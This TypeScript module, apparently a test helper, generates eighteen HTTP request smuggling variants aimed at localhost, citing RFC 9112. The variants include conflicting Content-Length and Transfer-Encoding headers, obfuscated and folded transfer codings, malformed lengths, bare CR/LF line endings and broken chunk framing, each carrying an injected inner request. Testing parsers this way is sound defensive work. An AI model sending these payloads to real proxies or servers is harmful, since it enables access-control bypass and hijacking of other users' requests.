/** What a proxy and a server may take for requests of different lengths (RFC 9112, 11.2); `ping` is the body, `inner` what is to be smuggled in. */
export function smuggles (ping: string, inner: string): ReadonlyArray<readonly [why: string, request: string]> {
  const head = (lines: string[]): string => ['POST /mse HTTP/1.1', 'Host: localhost', 'Content-Type: application/json', ...lines].join('\r\n')
  const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`
  const whole = `${chunk(ping)}0\r\n\r\n${inner}`
  return [
    ['both lengths', `${head([`Content-Length: ${whole.length}`, 'Transfer-Encoding: chunked'])}\r\n\r\n${whole}`],
    ['both lengths, the other way round', `${head(['Transfer-Encoding: chunked', `Content-Length: ${whole.length}`])}\r\n\r\n${whole}`],
    ['an obfuscated transfer coding', `${head([`Content-Length: ${whole.length}`, 'Transfer-Encoding: xchunked'])}\r\n\r\n${whole}`],
    ['a folded transfer coding', `${head([`Content-Length: ${whole.length}`, 'Transfer-Encoding:', ' chunked'])}\r\n\r\n${whole}`],
    ['a blank before the colon', `${head([`Content-Length: ${whole.length}`, 'Transfer-Encoding : chunked'])}\r\n\r\n${whole}`],
    ['two content lengths', `${head([`Content-Length: ${ping.length}`, `Content-Length: ${ping.length + inner.length}`])}\r\n\r\n${ping}${inner}`],
    ['a list of content lengths', `${head([`Content-Length: ${ping.length}, ${ping.length + 1}`])}\r\n\r\n${ping}${inner}`],
    ['a signed content length', `${head([`Content-Length: +${ping.length}`])}\r\n\r\n${ping}${inner}`],
    ['a hexadecimal content length', `${head([`Content-Length: 0x${ping.length.toString(16)}`])}\r\n\r\n${ping}${inner}`],
    ['a negative content length', `${head(['Content-Length: -1'])}\r\n\r\n${ping}${inner}`],
    ['a bare line feed in the head', `${head(['X: y']).replace('X: y', `X: y\nContent-Length: ${ping.length}`)}\r\n\r\n${ping}${inner}`],
    ['a bare carriage return in the head', `${head([`X: y\rContent-Length: ${ping.length}`])}\r\n\r\n${ping}${inner}`],
    ['bare line feeds between chunks', `${head(['Transfer-Encoding: chunked'])}\r\n\r\n${ping.length.toString(16)}\n${ping}\n0\n\n${inner}`],
    ['a chunk without its end', `${head(['Transfer-Encoding: chunked'])}\r\n\r\n${ping.length.toString(16)}\r\n${ping}0\r\n\r\n${inner}`],
    ['a chunk of 2^64 bytes', `${head(['Transfer-Encoding: chunked'])}\r\n\r\n10000000000000000\r\n${ping}\r\n0\r\n\r\n${inner}`],
    ['a chunk size that is no number', `${head(['Transfer-Encoding: chunked'])}\r\n\r\n0x${ping.length.toString(16)}\r\n${ping}\r\n0\r\n\r\n${inner}`],
    ['a chunk extension without end', `${head(['Transfer-Encoding: chunked'])}\r\n\r\n1;${'x'.repeat(20_000)}\r\n{\r\n0\r\n\r\n${inner}`],
    ['a transfer coding in HTTP/1.0', `${head([`Content-Length: ${whole.length}`, 'Transfer-Encoding: chunked']).replace('1.1', '1.0')}\r\n\r\n${whole}`]
  ]
}
